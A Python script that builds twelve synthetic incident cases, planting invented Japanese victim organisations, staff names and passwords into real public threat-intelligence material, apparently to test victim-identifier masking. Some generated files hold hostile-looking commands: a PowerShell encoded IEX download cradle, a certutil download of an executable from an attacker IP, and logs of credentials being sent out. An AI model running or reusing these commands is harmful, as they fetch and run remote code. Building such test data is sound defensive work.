"""Twelve invented victims, each planted into real public material. See SOURCES.md for the carriers."""
import json

from build import (Case, b64, defang, docx, entities, escapes, full_width, half_kana, mail, pdf, pe, percent, pptx,
                   targz, values, xlsx, zipped)

R = "reports/hunters-ledger/"
TECH = ["C2", "beacon", "loader", "persistence", "encrypt", "shellcode", "registry", "payload"]


def build(data):
    for case in (aomi, shirasagi, setomisaki, kitahama, shinonome, hayate, lumina, miurahama, hinode, tanpopo, nagisa, horai):
        case(data)


def aomi(data):
    """Manufacturer; mail, Word report, proxy log, sheet with a hidden page. Also the example of the README."""
    iocs = ["5.8.95.174", "45.32.13.180", "103.175.16.39", "www.ninesmn.com", "www.aesorunwe.com",
            "f4691ff3b3acd15653684f372285cac36c8d0aef", "db81c8719ddaae40c8d9b9ca103bbe77be4fce6c"]
    case = Case("01-aomi", {
        "name": "蒼海電機株式会社",
        "aliases": ["蒼海電機", "アオミデンキ", "aomi denki", "Aomi Electric Co., Ltd.", "AEC", "AomiLink"],
        "domains": ["aomi-denki.co.jp", "aomidenki.onmicrosoft.com"],
        "networks": ["203.0.113.0/26", "2001:db8:aa::/48"],
        "ad_domains": ["AEC-AD", "corp.aomidenki.local"], "hostnames": ["AEC-*"], "people": ["山田太郎"],
        "phones": ["03-0000-0000"], "addresses": ["島根県松江市殿町1-2"],
        "related": ["北嶺テクノサービス", "hokurei-ts.co.jp"],
        "context": {"sector": "電気機械器具製造業", "region": "島根県", "employees": 320},
    }, iocs, ["蒼海電機", "アオミデンキ", "aomidenki", "aomi-denki", "Aomi Electric", "AEC-", "AomiLink", "山田太郎", "山田", "t.yamada",
              "03-0000-0000", "殿町", "北嶺テクノ", "hokurei", "203.0.113.14", "10.20.3.44", "prx01", "Summer2024!", "aomilink"])
    report = data.lines("reports/eset-malware-ioc/mirrorface__README.adoc", 0, 42)
    case.write("mirrorface-notes.adoc", report + "\n\n== Findings on site\n\n検体 K7SysMon.Exe.db は 45.32.13[.]180 の 443/tcp に接続していた。\n"
               "蒼海電機の山田太郎さん（03-0000-0000）の端末 AEC-PC0231 で実行された。\n"
               "５月９日に標的型メールにより蒼海電機株式会社内部に侵入され、LODEINFOに感染し、設計図面が漏えいした。\n")
    case.write("調査報告書.docx", docx([
        "蒼海電機株式会社様 インシデント調査報告書",
        "攻撃者は標的型メールの添付ファイルから LODEINFO を実行し、レジストリ HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run に登録して永続化した。",
        f"感染端末は {defang('http://www.ninesmn.com/info.php')} へ HTTP POST を行い、AEC-AD\\t.yamada の認証情報を送信した。",
        "C2 サーバ 103.175.16.39 は5月9日から20日まで稼働していた。",
        "担当者: 山田 太郎（情報システム部）、所在地: 島根県松江市殿町1-2",
        "再委託先の北嶺テクノサービスにも影響が及んだ。",
    ], {"dc:creator": "山田太郎", "dc:title": "蒼海電機 調査報告書", "cp:lastModifiedBy": "AEC-AD\\t.yamada"},
        comments=[("山田太郎", "ｱｵﾐﾃﾞﾝｷ社内の AomiLink サーバ名は伏せること")], deleted=["社外秘 aomi-denki.co.jp 管理者パスワードは Summer2024!"]))
    case.write("proxy.log", "\n".join(
        f"2024-05-{9 + i // 8:02d}T{2 + i % 8:02d}:13:{i:02d}+09:00 prx01.corp.aomidenki.local 10.20.3.{44 + i % 5} AEC-AD\\t.yamada "
        f"POST http://www.aesorunwe.com/b?h={b64('AEC-AD' + chr(92) + 't.yamada')} 200 -> 5.8.95.174:443 src=203.0.113.14" for i in range(30)) + "\n")
    case.write("相談メール.eml", mail(
        [("From", "info@pay-notice.example.net"), ("To", "山田太郎 <t.yamada@aomi-denki.co.jp>"), ("Subject", "【蒼海】見積依頼 山田様"),
         ("Date", "Thu, 09 May 2024 02:13:07 +0900"), ("Received", "from mx1.aomi-denki.co.jp (203.0.113.5) by mail.aomi-denki.co.jp"),
         ("Message-ID", "<20240509021307.1@aomi-denki.co.jp>")],
        "山田様\n\nお世話になっております。添付の見積書をご確認ください。\nhttp://www.ninesmn.com/dl/AEC/quote.zip\n\nアオミデンキ株式会社 御中\n",
        codec="iso-2022-jp", attachments=[("蒼海電機_見積依頼.txt", "ダウンロード先: http://www.ninesmn.com/dl/quote.zip\n".encode("cp932"))]))
    case.write("hosts.xlsx", xlsx({
        "IOC": (False, [["type", "value", "note"]] + [["ip" if v[0].isdigit() else "hash/domain", v, "MirrorFace"] for v in iocs]),
        "社内端末": (True, [["AEC-PC0231", "10.20.3.44", "山田太郎"], ["AEC-DC02", "10.20.3.2", "corp.aomidenki.local"]])}))
    case.write("beacon.ps1", "$u='" + b64("aomi-denki.co.jp", "utf-16le") + "'\n$c='http://www.aesorunwe.com/b'\n"
               "powershell -enc " + b64("IEX (New-Object Net.WebClient).DownloadString('http://www.aesorunwe.com/s.ps1')", "utf-16le") + "\n")
    case.finish()


def shirasagi(data):
    """Hospital; PDF, ransom note in UTF-16, access log in CP932, percent and entity forms."""
    event = data.misp("misp-events/eset/oceanlotus__oceanlotus.misp.event.json.gz")
    ips, domains = values(event, {"ip-dst"})[:4], values(event, {"domain"})[:4]
    case = Case("02-shirasagi", {
        "name": "医療法人社団白鷺会 白鷺総合病院", "aliases": ["白鷺総合病院", "白鷺病院", "シラサギ", "Shirasagi General Hospital", "SGH"],
        "domains": ["shirasagi-hosp.or.jp"], "networks": ["198.51.100.128/27"], "ad_domains": ["SGHMED"], "hostnames": ["SGH-*", "denkaru*"],
        "people": ["鷹取美咲", "K. Takatori"], "phones": ["0791-00-0000"], "addresses": ["兵庫県相生市旭3丁目1-19"],
    }, ips + domains, ["白鷺", "シラサギ", "ｼﾗｻｷﾞ", "shirasagi", "SGHMED", "鷹取", "takatori", "0791-00-0000", "相生市", "198.51.100.140", "denkaru01"])
    lines = ["白鷺総合病院様 電子カルテ停止に関する調査（中間報告）", "攻撃者は VPN 装置の脆弱性 CVE-2023-27997 を悪用して侵入した。",
             f"侵入後、{ips[0]} から Cobalt Strike のペイロードを取得し、PsExec で横展開した。", f"通信先: {defang(domains[0])}、{defang(domains[1])}",
             "電子カルテサーバ denkaru01 (SGH-SV01) が暗号化され、診療に影響が出た。", "担当: 鷹取美咲 システム課長", f"C2 は {ips[1]}:443 であった。"]
    case.write("中間報告.pdf", pdf(lines, {"Author": "鷹取美咲", "Title": "白鷺総合病院 中間報告", "Subject": "SGH"}))
    case.write("HOW_TO_RESTORE.txt", ("\ufeffYour network SHIRASAGI is encrypted.\r\nID: SGH-7731\r\n"
               f"Data of Shirasagi General Hospital will be published.\r\nContact: {domains[2]}\r\n").encode("utf-16-le"))
    case.write("access_cp932.log", "\r\n".join(
        f"198.51.100.140 - - [09/May/2024:02:{i:02d}:07 +0900] \"GET http://{domains[2]}/{percent('白鷺総合病院')}/x.gif?h={percent('SGH-PC')}{i:02d} HTTP/1.1\" 200 端末=白鷺病院{i:02d}号機 dst={ips[2]}"
        for i in range(20)).encode("cp932"))
    case.write("page.html", f"<html><!-- {entities('Shirasagi General Hospital')} --><body><p>The implant beacons to {ips[3]} and {domains[3]}.</p>"
               f"<a href=\"http://{domains[3]}/?o={percent('ｼﾗｻｷﾞ')}\" title=\"白鷺会\">link</a></body></html>")
    case.finish()


def setomisaki(data):
    """City office; Apache log, password-protected archive is replaced by a nested zip with Japanese member names."""
    event = data.misp("misp-events/eset/sshdoor__misp-events__kessel.json")
    iocs = values(event, {"ip-dst", "domain", "sha1", "hostname"})[:6]
    case = Case("03-setomisaki", {
        "name": "瀬戸岬市", "aliases": ["瀬戸岬市役所", "セトミサキシ", "Setomisaki City"], "domains": ["city.setomisaki.lg.jp"],
        "networks": ["192.0.2.64/28"], "ad_domains": ["SETOMISAKI"], "hostnames": ["stm-*"], "people": ["岡崎健"], "phones": ["0869-00-1111"],
    }, iocs, ["瀬戸岬", "せとみさき", "セトミサキ", "setomisaki", "stm-web", "岡崎健", "0869-00-1111", "192.0.2.66"])
    log = "\n".join(f"{iocs[0] if i % 2 else '192.0.2.66'} - - [09/May/2024:0{i % 9}:00:00 +0900] \"POST /news/up.aspx?z0=Z0 HTTP/1.1\" 200 512 \"https://www.city.setomisaki.lg.jp/news/\" \"Mozilla/4.0\"" for i in range(24))
    note = ("瀬戸岬市役所 公式サイトの改ざんについて\n\n攻撃者はファイルアップロード機能の不備を悪用して Web シェルを設置した。\n"
            f"Linux/SSHDoor の通信先は {defang(iocs[0]) if '.' in iocs[0] else iocs[0]} であった。\n瀬戸岬市の岡崎健係長（0869-00-1111）から連絡があった。\n"
            "IOC:\n" + "\n".join(iocs) + "\n")
    inner = zipped({"瀬戸岬市/stm-web01_access.log": log, "せとみさき_メモ.txt": note.encode("euc-jp")})
    case.write("evidence.zip", zipped({"inner/調査.zip": inner, "readme.txt": "evidence of Setomisaki City, collected on stm-web01\n"}))
    case.write("event.json", json.dumps(event))
    case.finish()


def kitahama(data):
    """University; mbox in ISO-2022-JP, STIX bundle, escapes."""
    bundle = json.loads(data.text("stix21-bundles/oasis-examples/indicator-for-malicious-url.json"))
    iocs = ["http://x4z9arb.cn/4712/"]
    case = Case("04-kitahama", {
        "name": "国立大学法人北浜工科大学", "aliases": ["北浜工科大学", "北浜工大", "キタハマコウカダイガク", "Kitahama Institute of Technology", "KITech-H"],
        "domains": ["kitahama-it.ac.jp"], "networks": ["2001:db8:77::/48"], "hostnames": ["khit*"], "people": ["齋藤一郎", "Ichiro Saito"],
        "related": ["株式会社ミナトソフト"],
    }, iocs + ["198.51.100.211"], ["北浜工科", "北浜工大", "kitahama", "キタハマコウカ", "齋藤", "斎藤一郎", "斉藤一郎", "saito", "ミナトソフト", "2001:db8:77:0:1::9", "khit-mail"])
    for extra in bundle["objects"]:
        extra["description"] = (extra.get("description") or "") + " Reported by Kitahama Institute of Technology (斎藤一郎)."
    case.write("bundle.json", json.dumps(bundle, ensure_ascii=True))
    mails = b""
    for i in range(3):
        mails += b"From bounce@example.org Thu May  9 02:13:07 2024\n" + mail(
            [("From", "support@x4z9arb.cn"), ("To", "斎藤一郎 <saito.ichiro@kitahama-it.ac.jp>"), ("Subject", "北浜工大 パスワード期限切れのお知らせ"),
             ("Received", f"from khit-mail{i} ([2001:db8:77:0:1::9])")],
            "北浜工科大学 情報基盤センター\n斉藤先生\n\n以下のページでパスワードを更新してください。\nhttp://x4z9arb.cn/4712/\n", codec="iso-2022-jp") + b"\n\n"
    case.write("phish.mbox", mails)
    case.write("records.jsonl", "\n".join(json.dumps({"ts": f"2024-05-09T0{i}:00:00Z", "host": "khit-mail", "msg": "login from 198.51.100.211 for 齋藤一郎 at 北浜工科大学", "dst": "198.51.100.211"}) for i in range(9)))
    case.finish()


def shinonome(data):
    """Bank; sample with an XORed name, its configuration, a YARA rule."""
    event = data.misp("misp-events/eset/powerpool__misp-powerpool.json")
    iocs = values(event, {"ip-dst", "domain", "sha1", "hostname"})[:6]
    case = Case("05-shinonome", {
        "name": "東雲信用金庫", "aliases": ["しののめ信金", "シノノメシンキン", "Shinonome Shinkin Bank"], "domains": ["shinonome-shinkin.co.jp"],
        "networks": ["198.51.100.64/29"], "ad_domains": ["SNSHINKIN"], "hostnames": ["snb-*"], "people": ["榎本 遥"], "phones": ["026-000-0000"],
    }, iocs + ["198.51.100.40"], ["東雲信用金庫", "しののめ信金", "shinonome", "SNSHINKIN", "snb-prx", "榎本", "svc_prx", "P@ssw0rd-77", "198.51.100.66"])
    case.write("sample.bin", pe(["http://198.51.100.40/gate.php", "Global\\KGmutex77", "SNSHINKIN\\svc_prx"], 0x5A, b"proxy=snb-prx01.shinonome-shinkin.co.jp:8080;user=svc_prx;pw=P@ssw0rd-77", r"D:\targets\shinonome\ldr.pdb"))
    case.write("config.json", json.dumps({"c2": "198.51.100.40:443", "proxy": "snb-prx01.shinonome-shinkin.co.jp:8080", "proxy_user": "SNSHINKIN\\svc_prx", "proxy_pass": "P@ssw0rd-77", "note": "\u6771\u96f2\u4fe1\u7528\u91d1\u5eab"}))
    case.write("rule.yar", 'rule powerpool_loader {\n  meta:\n    description = "loader seen at Shinonome Shinkin Bank"\n  strings:\n    $s1 = "snb-prx01.shinonome"\n    $s2 = "Global\\\\KGmutex77"\n    $s3 = "/gate.php"\n  condition:\n    2 of them\n}\n')
    case.write("powerpool.json", json.dumps(event))
    case.write("memo.md", "# 解析メモ\n\n検体は設定に内部プロキシのアドレスを持つ。通信先は 198.51.100.40 の 443 番ポートである。\n\n東雲信用金庫の榎本 遥 様（026-000-0000）に確認済み。\n\nミューテックス Global\\KGmutex77 を作成する。\n\n" + "IOC: " + ", ".join(defang(v) for v in iocs) + "\n")
    case.finish()


def hayate(data):
    """Logistics firm with an English name; Windows event records, English report, nested tar.gz."""
    report = data.paragraphs(R + "reports__sliver-open-directory__index.md", TECH, 8)
    iocs = ["45.94.31.220", "mailuxe.net", "e2ad6f8202994058cc987cc971698238c2dc63a951dd1e43063cc9b8b138713b"]
    case = Case("06-hayate", {
        "name": "Hayate Logistics K.K.", "aliases": ["ハヤテ物流", "hayate-log"], "domains": ["hayate-logi.jp"], "networks": ["192.0.2.192/27"],
        "ad_domains": ["HAYATE", "ad.hayate-logi.jp"], "hostnames": ["HYT*"], "people": ["Kenji Morimoto", "森本健二"], "phones": ["+81-45-000-0000"],
        "related": ["Umikaze Shipping", "umikaze.example"],
    }, iocs, ["hayate", "ハヤテ", "morimoto", "森本", "HYT-FS01", "HYTWS", "045-000-0000", "umikaze", "192.0.2.200", "kmorimoto"])
    events = data.text("raw-material/otrf-windows-logs/cmd_psexec_lsa_secrets_dump__cmd_psexec_lsa_secrets_dump_2020-10-1903305471.json.gz").splitlines()[:60]
    events = [line.replace("WORKSTATION5", "HYTWS05.ad.hayate-logi.jp").replace("wardog", "kmorimoto") for line in events]
    case.write("events.tar.gz", targz({"HYT-FS01/security.jsonl": "\n".join(events).encode(), "HYT-FS01/conn.log": "\n".join(
        f"2024-05-0{i + 1} 03:0{i}:11 192.0.2.200 -> 45.94.31.220:8888 tcp out user=HAYATE\\kmorimoto" for i in range(8)).encode()}))
    case.write("report.md", "# Incident report for Hayate Logistics K.K.\n\n" + "\n\n".join(report) + "\n\nThe beacon on HYT-FS01 contacted mailuxe[.]net over HTTPS.\n\n"
               "The dropped OneDriveSync.exe has SHA-256 e2ad6f8202994058cc987cc971698238c2dc63a951dd1e43063cc9b8b138713b.\n\n"
               "Kenji Morimoto (+81-45-000-0000) confirmed that customer data of Umikaze Shipping was copied.\n")
    case.write("net.cmd", "net use \\\\HYT-FS01\\design P@ss-9912 /user:HAYATE\\kmorimoto\r\ncertutil -urlcache -f http://45.94.31.220/OneDriveSync.exe %TEMP%\\o.exe\r\n")
    case.planted.append("P@ss-9912")
    case.finish()


def lumina(data):
    """Game company with a kana name; MISP event with the victim in comments, guardrail hash, STIX file."""
    event = data.misp("misp-events/eset/winnti_group__gaming_supply_chain.misp_event.json")
    iocs = values(event, {"ip-dst", "domain", "sha1", "hostname", "url"})[:8]
    import hashlib
    digest = hashlib.md5(b"CORP.LUMINAFORGE.JP").hexdigest()
    case = Case("07-lumina", {
        "name": "株式会社ルミナスフォージ", "aliases": ["ルミナスフォージ", "ルミナ", "Luminous Forge Inc.", "LuminaForge"], "domains": ["luminaforge.jp", "lf-games.example"],
        "ad_domains": ["LUMINA", "CORP.LUMINAFORGE.JP"], "hostnames": ["lfbuild*"], "people": ["神崎ひかり"],
    }, iocs, ["ルミナスフォージ", "るみなすふぉーじ", "luminousforge", "luminaforge", "lf-games", "lfbuild", "神崎", digest, "ﾙﾐﾅｽﾌｫｰｼﾞ"])
    body = event.get("Event") or event["response"][0]["Event"]
    body["info"] = "Supply chain attack on " + full_width("LuminaForge") + " (" + half_kana("ルミナスフォージ") + ")"
    for i, attribute in enumerate(body.get("Attribute", [])[:20]):
        attribute["comment"] = ["seen at るみなすふぉーじ build server lfbuild07", "host " + b64("lfbuild07.luminaforge.jp"), "by 神崎ひかり"][i % 3]
    case.write("misp.event.json", json.dumps(event, ensure_ascii=False))
    case.write("guardrail.txt", f"The malware runs only when md5(USERDNSDOMAIN) = {digest}.\nIt then calls {iocs[0]}.\nCampaign id: luminaforge0509\n")
    case.write("list.csv", "indicator,type,comment\n" + "\n".join(f"{defang(v)},ioc,build pipeline" for v in iocs) + "\nlfbuild07.luminaforge.jp,host,victim\n")
    case.finish()


def miurahama(data):
    """Gas operator (few exist); workbook with a hidden page, CSV, slides."""
    event = data.misp("misp-events/eset/turla__misp-turla-crutch-event.json")
    iocs = values(event, {"ip-dst", "domain", "sha1", "hostname", "url"})[:6]
    case = Case("08-miurahama", {
        "name": "三浦浜ガス株式会社", "aliases": ["三浦浜ガス", "ミウラハマガス", "Miurahama Gas", "MHG"], "domains": ["miurahama-gas.co.jp"], "networks": ["203.0.113.128/28"],
        "ad_domains": ["MHGAS"], "hostnames": ["mhg-*", "HMI-*"], "people": ["浜口 誠"], "addresses": ["神奈川県三浦市三崎2丁目22番16号"],
        "context": {"sector": "ガス業", "region": "神奈川県", "employees": 85},
    }, iocs, ["三浦浜", "ミウラハマ", "miurahama", "MHGAS", "mhg-hist", "HMI-02", "浜口", "三崎2丁目", "203.0.113.130"])
    case.write("ioc.xlsx", xlsx({"IOC": (False, [["value", "comment"]] + [[v, "Crutch"] for v in iocs]), "HMI": (True, [["HMI-02", "203.0.113.130", "浜口 誠"], ["mhg-hist01", "三浦浜ガス", "三浦市三崎2-22-16"]])}))
    case.write("slides.pptx", pptx([["三浦浜ガス株式会社 緊急対応報告", f"The backdoor uses Dropbox and contacts {iocs[0]}"], ["MHGAS\\hamaguchi の権限が奪取された", "攻撃者は schtasks で永続化した"]]))
    case.write("hosts.csv", ("端末,IP,担当\r\nHMI-02,203.0.113.130,浜口誠\r\nmhg-hist01,10.9.8.7,ミウラハマガス 保安課\r\n").encode("cp932"))
    case.finish()


def hinode(data):
    """News agency; phishing mail with a tracked-changes attachment, EUC-JP note."""
    iocs = ["update-hnd-portal.example.net", "198.51.100.91", "3b4c2f0a9d3f5b0f3a0e9b9b6a1d2c7e8f90123456789abcdef0123456789abc"]
    case = Case("09-hinode", {
        "name": "株式会社日の出通信社", "aliases": ["日の出通信社", "日の出通信", "ヒノデツウシンシャ", "Hinode News Agency", "HNA"], "domains": ["hinode-news.co.jp"],
        "networks": ["192.0.2.16/28"], "people": ["﨑山 髙志", "Sakiyama Takashi"], "phones": ["06-0000-1234"],
    }, iocs, ["日の出通信", "ヒノデツウシン", "hinode", "崎山", "高志", "sakiyama", "06-0000-1234", "192.0.2.20"])
    attachment = docx(["取材協力のお願い", f"マクロは {defang('http://198.51.100.91/macro.bin')} からペイロードを取得する。"], {"dc:creator": "崎山高志", "dc:title": "日の出通信社 取材依頼"}, deleted=["日の出通信社 社会部 崎山"])
    case.write("取材依頼.eml", mail([("From", "desk@update-hnd-portal.example.net"), ("To", "takashi.sakiyama@hinode-news.co.jp"), ("Cc", "desk@hinode-news.co.jp"), ("Subject", "日の出通信社 崎山様 取材のご相談")],
               "崎山様\n\n添付をご覧ください。パスワード: Zr8-kkLm22\n\n日の出通信社 〒530-0000\n", attachments=[("取材依頼.docx", attachment)], html="<p>崎山様 <a href='http://update-hnd-portal.example.net/login?m=takashi.sakiyama@hinode-news.co.jp'>確認</a></p>"))
    case.write("メモ.txt", ("日の出通信社での初動対応メモ\n\n攻撃者のフィッシングサイト update-hnd-portal.example.net は 198.51.100.91 で稼働していた。\n"
               "添付ファイルの SHA-256 は 3b4c2f0a9d3f5b0f3a0e9b9b6a1d2c7e8f90123456789abcdef0123456789abc である。\n高志さんの端末は 192.0.2.20 だった。\n").encode("euc-jp"))
    case.planted.append("Zr8-kkLm22")
    case.finish()


def tanpopo(data):
    """Small vendor whose abbreviation TPS hides in every https: over-masking and short tokens."""
    event = data.misp("misp-events/eset/swc-candiru__swc-candiru_misp.json.gz")
    iocs = values(event, {"ip-dst", "domain", "sha1", "sha256", "md5", "hostname", "url"})[:10]
    case = Case("10-tanpopo", {
        "name": "タンポポシステムズ合同会社", "aliases": ["タンポポシステムズ", "Tanpopo Systems", "TPS"], "domains": ["tanpopo-sys.example"], "ad_domains": ["TPSAD"], "hostnames": ["tps-*"], "people": ["小林なつみ"],
    }, iocs + ["https://cdn-https.example.org/tpsx/load.js"], ["タンポポ", "tanpopo", "TPSAD", "tps-vpn", "小林なつみ", "小林"])
    case.write("candiru.json", json.dumps(event))
    case.write("notes.md", "The loader fetches https://cdn-https.example.org/tpsx/load.js over https.\n\nThe C2 host tps.relay.example.org was resolved from tps-vpn01 at Tanpopo Systems.\n\n"
               "小林なつみさんのアカウント TPSAD\\n.kobayashi が悪用された。\n\n" + "\n\n".join(data.paragraphs(R + "reports__AdvancedRouterScanner__index.md", TECH + ["router", "scan", "exploit"], 6)) + "\n")
    case.finish()


def nagisa(data):
    """Shipping firm; look-alike domains, IPv6, escapes, doubly encoded forms."""
    iocs = ["198.51.100.150", "2001:db8:ff::9", "relay.freight-sync.example.com"]
    case = Case("11-nagisa", {
        "name": "渚マリタイム株式会社", "aliases": ["渚マリタイム", "ナギサマリタイム", "Nagisa Maritime Co., Ltd."], "domains": ["nagisa-maritime.co.jp"], "networks": ["2001:db8:aa::/48", "203.0.113.192/28"],
        "ad_domains": ["NAGISA"], "hostnames": ["NGS-*"], "people": ["大河内 渉"],
    }, iocs, ["渚マリタイム", "ナギサマリタイム", "nagisa", "nag1sa", "大河内", "NGS-BRIDGE", "2001:db8:aa::14", "2001:0db8:00aa", "203.0.113.200"])
    double = b64(b64("NAGISA\\w.okochi"))
    case.write("capture.txt", "\n".join(["# decoded traffic", f"POST http://relay.freight-sync.example.com/p?d={double}", "GET http://nag1sa-maritime.example.com/login", "DNS nagisa.relay.freight-sync.example.com A 198.51.100.150",
               f"cookie: s={percent(percent('渚マリタイム'))}", "2001:db8:aa::14 -> 2001:db8:ff::9 443/tcp", "2001:0DB8:00AA:0000:0000:0000:0000:0014 -> 198.51.100.150:443", "x-host: \\x4e\\x47\\x53\\x2d\\x42\\x52\\x49\\x44\\x47\\x45", f"body {escapes('ナギサマリタイム')}",
               "inner 203[.]0[.]113[.]200, decimal 3405803976"]) + "\n")
    case.write("report.md", "攻撃者は偽の配船ポータルへ誘導し、認証情報を窃取した。\n\n通信先は relay.freight-sync.example.com であり、198.51.100.150 に解決された。\n\nIPv6 では 2001:db8:ff::9 と通信していた。\n\n渚\nマリタイム株式会社の大河内 渉（運航管理部長）が報告した。\n")
    case.finish()


def horai(data):
    """Drug maker; everything nested: archive in archive, mail in archive, gz log, HTML."""
    event = data.misp("misp-events/eset/xdspy__misp-xdspy-event.json.gz")
    iocs = values(event, {"ip-dst", "domain", "sha1", "hostname", "url"})[:8]
    case = Case("12-horai", {
        "name": "蓬莱製薬株式会社", "aliases": ["蓬莱製薬", "ホウライセイヤク", "Horai Pharma", "HRI"], "domains": ["horai-pharma.co.jp"], "networks": ["198.51.100.224/28"], "ad_domains": ["HORAI"], "hostnames": ["HRI-*"],
        "people": ["渡邊 恭子"], "related": ["丹羽分析センター"],
    }, iocs, ["蓬莱製薬", "ホウライセイヤク", "ほうらいせいやく", "horai", "hourai", "HRI-LIMS", "渡邊", "渡辺恭子", "丹羽分析", "198.51.100.230"])
    import gzip
    log = "\n".join(f"May  9 02:13:{i:02d} HRI-LIMS0{i % 4} proxy[99]: 198.51.100.230 CONNECT {iocs[i % len(iocs)] if '://' not in iocs[i % len(iocs)] else 'xdspy.invalid'}:443 user=HORAI\\k.watanabe" for i in range(30))
    message = mail([("From", "attacker@mail-hourai.example.org"), ("To", "k.watanabe@horai-pharma.co.jp"), ("Subject", "【蓬莱製薬】会議資料")], "渡辺恭子様\n\n丹羽分析センターとの会議資料です。\n", codec="cp932" if False else "utf-8")
    inner = targz({"ほうらいせいやく/proxy.log.gz": gzip.compress(log.encode(), mtime=0), "mail/会議.eml": message})
    case.write("case.zip", zipped({"HRI/入れ子.tar.gz": inner, "xdspy.json": json.dumps(event)}))
    case.write("notes.html", "<html><head><meta name='author' content='渡邊 恭子'><title>蓬莱製薬</title></head><body><h1>XDSpy</h1><p>The downloader contacts " + " and ".join(iocs[:3]) + ".</p><!-- HORAI PHARMA internal --></body></html>")
    case.finish()
